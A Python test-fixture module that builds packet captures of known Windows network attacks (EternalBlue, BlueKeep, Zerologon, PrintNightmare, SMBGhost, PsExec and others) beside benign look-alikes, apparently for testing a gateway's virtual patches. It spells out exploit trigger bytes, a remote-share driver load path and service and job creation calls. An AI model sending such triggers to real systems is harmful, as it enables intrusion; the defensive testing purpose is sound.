# SPDX-License-Identifier: GPL-3.0-or-later
#
# threats.py - captures of what virtual patches stop, and of lawful talk that comes near it. Written from the public descriptions of the protocols (MS-CIFS, MS-SMB2,
# MS-RPCE, MS-RDPBCGR); shares nothing with the gateway's parsers. None carries anything that would run: lengths, names and numbers are the attack's, bodies are filling.
#
#     bad(), near()   {id: Capture}    Capture.show is a display filter of tshark that must find its point

import itertools
import struct
import uuid

CLIENT, SERVER = '198.51.100.7', '10.20.0.7'
SMB, RDP = 445, 3389
PORTS = itertools.count(40000, 50)


def address(text):
    return bytes(int(part) for part in text.split('.'))


def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(src, dst, transport, body):
    ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(body), 1, 0x4000, 64, transport, 0, address(src), address(dst))
    ip = ip[:10] + struct.pack('>H', checksum(ip)) + ip[12:]
    return b'\x02\0\0\0\0\x01\x02\0\0\0\0\x02\x08\0' + ip + body


def segment(src, dst, ports, seq, ack, flags, data=b''):
    head = struct.pack('>HHIIBBHHH', *ports, seq & 0xffffffff, ack & 0xffffffff, 0x50, flags, 65535, 0, 0) + data
    pseudo = address(src) + address(dst) + struct.pack('>BBH', 0, 6, len(head))
    return packet(src, dst, 6, head[:16] + struct.pack('>H', checksum(pseudo + head)) + head[18:])


def datagram(src, dst, ports, data):
    head = struct.pack('>HHHH', *ports, 8 + len(data), 0) + data
    pseudo = address(src) + address(dst) + struct.pack('>BBH', 0, 17, len(head))
    return packet(src, dst, 17, head[:6] + struct.pack('>H', checksum(pseudo + head) or 0xffff) + data)


class Capture:
    """Packets with times, in order."""

    def __init__(self, show):
        self.show, self.packets, self.now, self.port = show, [], 1700000000.0, next(PORTS)

    def add(self, data, wait=0.001):
        self.now += wait
        self.packets.append((self.now, data))

    def talk(self, port, client=CLIENT, server=SERVER):
        self.port += 1
        return Talk(self, (self.port, port), client, server)

    def write(self, path):
        with open(path, 'wb') as out:
            out.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
            for when, data in self.packets:
                out.write(struct.pack('<IIII', int(when), int(when * 1e6) % 1000000, len(data), len(data)) + data)
        return path


class Talk:
    """A TCP connection: ask() is the client's, answer() the server's."""

    def __init__(self, capture, ports, client, server):
        self.capture, self.ports, self.ends = capture, ports, (client, server)
        self.seq = [1000, 9000]
        for who, flags in ((0, 2), (1, 0x12), (0, 0x10)):
            self.put(who, flags)

    def put(self, who, flags, data=b''):
        ports = self.ports if who == 0 else self.ports[::-1]
        self.capture.add(segment(self.ends[who], self.ends[1 - who], ports, self.seq[who], self.seq[1 - who] if flags & 0x10 else 0, flags, data))
        self.seq[who] += len(data) + bool(flags & 3)

    def say(self, who, data, size=1400):
        for at in range(0, len(data), size):
            self.put(who, 0x18, data[at:at + size])
        self.put(1 - who, 0x10)

    def ask(self, data, size=1400):
        self.say(0, data, size)

    def answer(self, data, size=1400):
        self.say(1, data, size)


# -- SMB 1

def netbios(data):
    return b'\0' + struct.pack('>I', len(data))[1:] + data


def smb1(command, words=b'', data=b'', status=0, answer=False, flags2=0xc007, tree=0x0800, user=0x0800, number=1, pid=0xfeff):
    head = b'\xffSMB' + struct.pack('<BIBH12sHHHH', command, status, 0x98 if answer else 0x18, flags2, bytes(12), tree, pid, user, number)
    return netbios(head + bytes([len(words) // 2]) + words + struct.pack('<H', len(data)) + data)


def wide(text):
    return text.encode('utf-16-le')


def opened1(talk, share=r'\\10.20.0.7\IPC$', unicode=True):
    """Negotiate, sign in as nobody, connect to a share."""
    flags2 = 0xc007 if unicode else 0x2801
    talk.ask(smb1(0x72, data=b'\x02NT LM 0.12\0', flags2=flags2, tree=0, user=0))
    talk.answer(smb1(0x72, struct.pack('<HBHHIIIIQhB', 0, 3, 50, 1, 16644, 65536, 0, 0x8000e3fd if unicode else 0x8000e3f9, 0, 0, 0), b'', answer=True, flags2=flags2,
                     tree=0, user=0))
    names = b'\0' + b''.join(wide(n + '\0') for n in ('', '', 'Windows 2000', '5.0')) if unicode else b'\0\0Windows 2000\x005.0\0'
    talk.ask(smb1(0x73, struct.pack('<BBHHHHIHHII', 0xff, 0, 0, 4356, 10, 1, 0, 1 if unicode else 0, 0, 0, 0xd4), (b'\0' if unicode else b'') + names, flags2=flags2, tree=0, user=0))
    talk.answer(smb1(0x73, struct.pack('<BBHH', 0xff, 0, 0, 0), b'\0' + wide('Windows 5.1\0Windows 2000 LAN Manager\0') if unicode else b'Windows 5.1\0', answer=True,
                     flags2=flags2, tree=0))
    path = b'\0' + (wide(share + '\0') if unicode else share.encode() + b'\0') + b'?????\0'
    talk.ask(smb1(0x75, struct.pack('<BBHHH', 0xff, 0, 0, 0, 1), path, flags2=flags2, tree=0, number=2))
    talk.answer(smb1(0x75, struct.pack('<BBHH', 0xff, 0, 0, 1), b'IPC\0\0' if share.endswith('IPC$') else b'A:\0N\0T\0F\0S\0\0\0', answer=True, flags2=flags2, number=2))
    return flags2


def create1(talk, name, flags2, number, fid=0x4000):
    data = name.encode() + b'\0' if not flags2 & 0x8000 else b'\0' + wide(name + '\0')
    words = struct.pack('<BBHBHIIIQIIIIIB', 0xff, 0, 0, 0, len(name) * (2 if flags2 & 0x8000 else 1), 0x16, 0, 0x2019f if '$' not in name else 1, 0, 0, 3, 1, 0x40, 2, 3)
    talk.ask(smb1(0xa2, words, data, flags2=flags2, number=number))
    talk.answer(smb1(0xa2, struct.pack('<BBHBHI32sIQQHHB', 0xff, 0, 0, 0, fid, 1, bytes(32), 0x80, 0, 0, 2, 5, 0), answer=True, flags2=flags2, number=number))


def trans1(function, fid, data, number, flags2=0xc007):
    name = b'\0' + wide('\\PIPE\\\0') if flags2 & 0x8000 else b'\\PIPE\\\0'
    at = 32 + 1 + 32 + 2 + len(name)
    pad = -at % 4 if data else 0
    words = struct.pack('<HHHHBBHIHHHHHBBHH', 0, len(data), 0, 1024, 0, 0, 0, 0, 0, 0, at + pad, len(data), at + pad if data else 0, 2, 0, function, fid)
    return smb1(0x25, words, name + bytes(pad) + data, flags2=flags2, number=number)


def answer1(data, number, flags2=0xc007):
    at = 32 + 1 + 20 + 2 + 1
    return smb1(0x25, struct.pack('<HHHHHHHHHBB', 0, len(data), 0, 0, at, 0, len(data), at, 0, 0, 0), b'\0' + data, answer=True, number=number, flags2=flags2)


def trans2(function, parameters, data, number, total=None):
    at = 32 + 1 + 30 + 2 + 3
    words = struct.pack('<HHHHBBHIHHHHHBBH', len(parameters), len(data) if total is None else total, 1, 0, 0, 0, 0, 0, 0, len(parameters), at, len(data),
                        at + len(parameters), 1, 0, function)
    return smb1(0x32, words, bytes(3) + parameters + data, number=number)


def trans2_more(data, to, total, number):
    at = 32 + 1 + 18 + 2
    return smb1(0x33, struct.pack('<HHHHHHHHH', 0, min(total, 0xffff), 0, 0, 0, len(data), at, to, 0), data, number=number)


# -- SMB 2

def smb2(command, body, number, answer=False, tree=5, status=0, session=0x77):
    return netbios(b'\xfeSMB' + struct.pack('<HHIHHIIQIIQ16s', 64, 1, status, command, 1, 1 if answer else 0, 0, number, 0xfeff, tree, session, bytes(16)) + body)


def opened2(talk, share=r'\\10.20.0.7\IPC$', kind=2):
    talk.ask(smb2(0, struct.pack('<HHHHI16sQ', 36, 1, 1, 0, 0, bytes(16), 0) + struct.pack('<H', 0x210), 0, tree=0, session=0))
    talk.answer(smb2(0, struct.pack('<HHHH16sIIIIQQHHI', 65, 1, 0x210, 0, bytes(16), 7, 65536, 65536, 65536, 0, 0, 128, 0, 0), 0, True, tree=0, session=0))
    talk.ask(smb2(3, struct.pack('<HHHH', 9, 0, 72, 2 * len(share)) + wide(share), 1, tree=0))
    talk.answer(smb2(3, struct.pack('<HBBIII', 16, kind, 0, 0x30, 0, 0x1f01ff), 1, True))


def create2(talk, name, number=2, fid=0x55):
    talk.ask(smb2(5, struct.pack('<HBBIQQIIIIIHHII', 57, 0, 0, 2, 0, 0, 0x12019f, 0, 3, 1, 0, 120, 2 * len(name), 0, 0) + wide(name), number))
    talk.answer(smb2(5, struct.pack('<HBBI32sQQIIQQII', 89, 0, 0, 1, bytes(32), 0, 0, 0x80, 0, fid, fid, 0, 0), number, True))


def write2(data, number, fid=0x55):
    return smb2(9, struct.pack('<HHIQQQIIHHI', 49, 112, len(data), 0, fid, fid, 0, 0, 0, 0, 0) + data, number)


def pipe2(talk, data, number, answer=None):
    talk.ask(write2(data, number))
    talk.answer(smb2(9, struct.pack('<HHIIHH', 17, 0, len(data), 0, 0, 0), number, True))
    if answer:
        talk.ask(smb2(8, struct.pack('<HBBIQQQIIIHHB', 49, 0x50, 0, 1024, 0, 0x55, 0x55, 0, 0, 0, 0, 0, 0), number + 1))
        talk.answer(smb2(8, struct.pack('<HBBIII', 17, 80, 0, len(answer), 0, 0) + answer, number + 1, True))


# -- DCE/RPC

NDR = uuid.UUID('8a885d04-1ceb-11c9-9fe8-08002b104860')


def pdu(kind, call, body, flags=3):
    return struct.pack('<BBBBIHHI', 5, 0, kind, flags, 0x10, 16 + len(body), 0, call) + body


def bind(interface, major, minor=0, call=1):
    body = struct.pack('<HHIBBH', 4280, 4280, 0, 1, 0, 0) + struct.pack('<HBB', 0, 1, 0) + uuid.UUID(interface).bytes_le + struct.pack('<HH', major, minor)
    return pdu(11, call, body + NDR.bytes_le + struct.pack('<I', 2))


def bound(call=1, port=b'\\PIPE\\x\0'):
    body = struct.pack('<HHIH', 4280, 4280, 0x1234, len(port)) + port
    return pdu(12, call, body + bytes(-(16 + len(body)) % 4) + struct.pack('<BBHHH', 1, 0, 0, 0, 0) + NDR.bytes_le + struct.pack('<I', 2))


def request(opnum, stub, call=2, thing=None, flags=3):
    return pdu(0, call, struct.pack('<IHH', len(stub), 0, opnum) + (uuid.UUID(thing).bytes_le if thing else b'') + stub, flags | (0x80 if thing else 0))


def reply(stub, call=2):
    return pdu(2, call, struct.pack('<IHBB', len(stub), 0, 0, 0) + stub)


def ndr_text(text):
    data = wide(text + '\0')
    return struct.pack('<III', len(text) + 1, 0, len(text) + 1) + data + bytes(-len(data) % 4)


def ndr_pointer(text, number=0x20000):
    return struct.pack('<I', number) + ndr_text(text)


HANDLE = bytes(4) + bytes(range(16))
SRVSVC, NETLOGON, SPOOLSS = '4b324fc8-1670-01d3-1278-5a47bf6ee188', '12345678-1234-abcd-ef00-01234567cffb', '12345678-1234-abcd-ef00-0123456789ab'
PAR, PAR_THING, SVCCTL = '76f03f96-cdfd-44fc-a22c-64950a001209', '9940ca8e-512f-4c58-88a9-61098d6896bd', '367abb81-9844-35f1-ad32-98f038001003'
WBEM, WINREG = '9556dc99-828c-11cf-a37e-00aa003240c7', '338cd001-2244-31f1-aaaa-900038001003'
ATSVC, TSCH = '1ff70682-0a51-30e8-076d-740be8cee98b', '86d35949-83c9-4044-b424-db363231fd0c'


def create_service(name, path):
    return HANDLE + ndr_text(name) + ndr_pointer(name) + struct.pack('<IIII', 0xf01ff, 0x10, 3, 0) + ndr_text(path) + bytes(28)


def path_call(path):
    return ndr_pointer('10.20.0.7') + ndr_text(path) + struct.pack('<I', 520) + ndr_text('') + struct.pack('<II', 1, 0)


def compare_call(path):
    return ndr_pointer('10.20.0.7') + ndr_text(path) + ndr_text(path) + struct.pack('<II', 1, 0)


def add_driver(name, library):
    """DRIVER_CONTAINER of level 2 (MS-RPRN section 2.2.1.2.3)."""
    return ndr_pointer(name) + struct.pack('<IIIIIIIII', 2, 2, 0x20004, 3, 0x20008, 0x2000c, 0x20010, 0x20014, 0x20018) + ndr_text('1234') + ndr_text('Windows x64') + \
        ndr_text(r'C:\Windows\System32\DriverStore\UNIDRV.DLL') + ndr_text(library) + ndr_text(r'C:\Windows\System32\kernelbase.dll') + struct.pack('<I', 0x8014)


# -- each threat, and its neighbour

# The header that EternalBlue writes over a network buffer's (ET Open 2024297 looks for it); no code follows.
OVERWRITE = bytes.fromhex('8000a80000000000000000000000000000000000ffff000000000000ffff0000000000000000000000000000000000000000000000f1dfff000000000000000020f0dfff'
                          '00f1dfffffffffff600004100000000080efdfff')


def eternalblue_said(talk, bad=True):
    opened1(talk)
    fill = b'\0' * 976
    if bad:
        at = 32 + 1 + 40 + 2 + 1
        words = struct.pack('<BHIIIIIIIIBHH', 1, 0, 30, 66512, 30, 0, 30, at, len(fill), at + 30, 1, 0, 0)
        talk.ask(smb1(0xa0, words, b'\0' + bytes(30) + fill, number=64))
    else:
        talk.ask(trans2(8, bytes(6), fill, 64, total=len(fill) + 4096))
    talk.answer(smb1(0xa0 if bad else 0x32, answer=True, number=64))
    talk.ask(trans2_more(OVERWRITE + b'\0' * (4096 - len(OVERWRITE)) if bad else bytes(4096), len(fill), 66512 if bad else len(fill) + 4096, 64))


def eternalblue(bad):
    c = Capture('smb.cmd == 0x33')
    eternalblue_said(c.talk(SMB), bad)
    return c


def probe(bad):
    c = Capture('smb.cmd == 0x25')
    talk = c.talk(SMB)
    flags2 = opened1(talk, unicode=False)
    if not bad:
        create1(talk, '\\srvsvc', flags2, 3)
    talk.ask(trans1(0x23, 0 if bad else 0x4000, b'', 4, flags2))
    talk.answer(smb1(0x25, status=0xc0000205, answer=True, number=4))
    return c


def doublepulsar(bad):
    c = Capture('smb.cmd == 0x32')
    talk = c.talk(SMB)
    opened1(talk)
    talk.ask(trans2(14, bytes(12), b'', 0x41) if bad else trans2(5, struct.pack('<HI', 0x101, 0) + wide('\\a.txt\0'), b'', 0x41))
    talk.answer(smb1(0x32, status=0xc0000002, answer=True, number=0x51 if bad else 0x41))
    return c


def wannacry(bad):
    c = Capture('smb.path')
    talk = c.talk(SMB)
    opened1(talk, r'\\192.168.56.20\IPC$' if bad else r'\\10.20.0.7\IPC$')
    return c


def conficker(bad):
    c = Capture('dcerpc.opnum == 31')
    talk = c.talk(SMB)
    flags2 = opened1(talk)
    create1(talk, '\\browser', flags2, 3)
    talk.ask(trans1(0x26, 0x4000, bind(SRVSVC, 3), 4))
    talk.answer(answer1(bound(), 4))
    path = r'\A\..\..\BBBBBBBB' if bad else r'\A\..\BBBBBBBB'
    talk.ask(trans1(0x26, 0x4000, request(31, path_call(path)), 5))
    talk.ask(trans1(0x26, 0x4000, request(32, compare_call(path), call=3), 6))
    return c


def bluekeep(bad):
    c = Capture('rdp.channelCount == 3')
    talk = c.talk(RDP)
    talk.ask(b'\x03\0\0\x2b\x26\xe0\0\0\0\0\0Cookie: mstshash=user0\r\n\x01\0\x08\0\0\0\0\0')
    talk.answer(b'\x03\0\0\x13\x0e\xd0\0\0\x12\x34\0\x02\0\x08\0\0\0\0\0')
    names = [b'rdpdr', b'MS_T120' if bad else b'cliprdr', b'rdpsnd']
    core = struct.pack('<IHHHHII32sIII64sHHIHHI', 0x80004, 1280, 800, 0xca01, 0xaa03, 0x409, 2600, wide('FAB-PC').ljust(32, b'\0'), 4, 0, 12, bytes(64), 0xca01, 1, 0, 24, 7, 1)
    core += bytes(64) + struct.pack('<BBI', 0, 0, 0)
    net = struct.pack('<I', len(names)) + b''.join(n.ljust(8, b'\0') + b'\0\0\x80\x80' for n in names)
    blocks = b''.join(struct.pack('<HH', kind, 4 + len(data)) + data for kind, data in ((0xc001, core), (0xc004, struct.pack('<II', 9, 0)), (0xc002, struct.pack('<II', 3, 0)), (0xc003, net)))
    settings = b'\0\x08\0\x10\0\x01\xc0\0Duca' + struct.pack('>H', 0x8000 | len(blocks)) + blocks
    user = b'\0\x05\0\x14\x7c\0\x01' + struct.pack('>H', 0x8000 | len(settings)) + settings
    limits = [bytes.fromhex(x) for x in ('301a020122020102020100020101020100020101' + '0203' + '00ffff' + '020102', '3019020101020101020101020101020100020101' + '02020420' + '020102',
                                         '301c0202ffff0202fc170202ffff020101020100020101' + '0203' + '00ffff' + '020102')]
    body = b'\x04\x01\x01\x04\x01\x01\x01\x01\xff' + b''.join(b'\x30' + bytes([len(x) - 2]) + x[2:] for x in limits) + b'\x04\x82' + struct.pack('>H', len(user)) + user
    mcs = b'\x02\xf0\x80\x7f\x65\x82' + struct.pack('>H', len(body)) + body
    talk.ask(b'\x03\0' + struct.pack('>H', 4 + len(mcs)) + mcs)
    return c


def zerologon(bad):
    c = Capture('dcerpc.opnum == 4')
    talk = c.talk(49667)
    talk.ask(bind(NETLOGON, 1))
    talk.answer(bound(port=b'49667\0'))
    talk.ask(request(4, ndr_pointer('\\\\DC') + ndr_text('TOOLPC1') + (bytes(8) if bad else b'\x8a\x01\xf3\x44\x90\x17\x6c\x5d')))
    return c


def printnightmare(bad):
    c = Capture('dcerpc.opnum == 89 || dcerpc.opnum == 39')
    library = '\\\\198.51.100.7\\share\\driver.dll' if bad else r'C:\Windows\System32\spool\drivers\x64\3\driver.dll'
    talk = c.talk(SMB)
    opened2(talk)
    create2(talk, 'spoolss')
    pipe2(talk, bind(SPOOLSS, 1), 3, bound())
    pipe2(talk, request(89, add_driver('\\\\10.20.0.7', library)), 5)
    talk = c.talk(49668)
    talk.ask(bind(PAR, 1))
    talk.answer(bound(port=b'49668\0'))
    talk.ask(request(39, add_driver('\\\\10.20.0.7', library), thing=PAR_THING))
    return c


def smbghost(bad):
    c = Capture('smb2')
    talk = c.talk(SMB)
    opened2(talk)
    talk.ask(netbios(b'\xfcSMB' + struct.pack('<IHHI', 4096 if not bad else 0xffffffff, 1, 0, 16) + bytes(16) + b'\xff\xff\xff\x7f' + b'A' * 64))
    return c


def eternalred(bad):
    c = Capture('smb.cmd == 0xa2')
    talk = c.talk(SMB)
    flags2 = opened1(talk, r'\\10.20.0.7\IPC$' if bad else r'\\10.20.0.7\data', unicode=False)
    create1(talk, '/srv/data/module.so' if bad else '\\lib\\module.so', flags2, 3)
    return c


def scan(bad):
    c = Capture('tcp.flags.syn == 1')
    for number in range(90 if bad else 20):
        c.add(segment('10.20.0.50', f'10.20.1.{number + 1}', (41000 + number, 135), 1000, 0, 2), 0.05)
    return c


def psexec(bad):
    c = Capture('dcerpc.opnum == 12' if bad else 'dcerpc.opnum == 6')
    talk = c.talk(SMB)
    opened2(talk)
    create2(talk, 'svcctl')
    pipe2(talk, bind(SVCCTL, 2), 3, bound())
    pipe2(talk, request(12, create_service('PSEXESVC', '%SystemRoot%\\PSEXESVC.exe')) if bad else request(6, HANDLE), 5)
    return c


def tasks(bad):
    c = Capture('dcerpc.opnum == 0' if bad else 'dcerpc.opnum == 2')
    talk = c.talk(SMB)
    flags2 = opened1(talk, unicode=False)
    create1(talk, '\\atsvc', flags2, 3)
    talk.ask(trans1(0x26, 0x4000, bind(ATSVC, 1), 4, flags2))
    talk.answer(answer1(bound(), 4, flags2))
    job = ndr_pointer('10.20.0.7') + struct.pack('<IIBBHI', 3600000, 0, 0, 0, 0, 0x20004) + ndr_text('cmd /c a.exe')
    talk.ask(trans1(0x26, 0x4000, request(0, job) if bad else request(2, ndr_pointer('10.20.0.7') + struct.pack('<IIIII', 0, 0, 0xffffffff, 0x20004, 0)), 5, flags2))
    return c


def shares(bad):
    c = Capture('smb.path contains "ADMIN$"' if bad else 'smb.path contains "tool$"')
    talk = c.talk(SMB)
    opened1(talk, r'\\10.20.0.7\ADMIN$' if bad else r'\\10.20.0.7\tool$')
    return c


def wmi(bad):
    c = Capture('dcerpc.opnum == 24' if bad else 'dcerpc.opnum == 20')
    talk = c.talk(49669)
    talk.ask(bind(WBEM, 0))
    talk.answer(bound(port=b'49669\0'))
    talk.ask(request(24 if bad else 20, bytes(64), thing=PAR_THING))
    return c


def winrm(bad):
    c = Capture('http.request.method == "POST"')
    talk = c.talk(5985)
    body = b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"></s:Envelope>'
    page = b'/wsman?PSVersion=5.1.19041.1' if bad else b'/wsmanual?page=1'
    talk.ask(b'POST ' + page + b' HTTP/1.1\r\nHost: 10.20.0.7:5985\r\nUser-Agent: Microsoft WinRM Client\r\nContent-Type: application/soap+xml;charset=UTF-8\r\n'
             b'Content-Length: %d\r\n\r\n' % len(body) + body)
    return c


def shutdown(bad):
    c = Capture('dcerpc.opnum == 24' if bad else 'dcerpc.opnum == 17')
    talk = c.talk(SMB)
    flags2 = opened1(talk, unicode=False)
    create1(talk, '\\winreg', flags2, 3)
    talk.ask(trans1(0x26, 0x4000, bind(WINREG, 1), 4, flags2))
    talk.answer(answer1(bound(), 4, flags2))
    # InitiateSystemShutdown (MS-RSP section 3.1.4.1): server, message, seconds, force, restart. Else BaseRegQueryValue.
    stub = struct.pack('<IHHI', 0x20000, 0x5c, 0, 0) + struct.pack('<IBB', 0, 1, 1) if bad else HANDLE + bytes(40)
    talk.ask(trans1(0x26, 0x4000, request(24 if bad else 17, stub), 5, flags2))
    return c


MAKERS = {'eternalblue': eternalblue, 'ms17-010-probe': probe, 'doublepulsar': doublepulsar, 'wannacry': wannacry, 'conficker': conficker, 'bluekeep': bluekeep,
          'zerologon': zerologon, 'printnightmare': printnightmare, 'smbghost': smbghost, 'eternalred': eternalred, 'worm-scan': scan, 'psexec': psexec,
          'scheduled-tasks': tasks, 'admin-shares': shares, 'wmi': wmi, 'winrm': winrm, 'remote-shutdown': shutdown}


def bad():
    return {name: make(True) for name, make in MAKERS.items()}


def near():
    return {name: make(False) for name, make in MAKERS.items()}
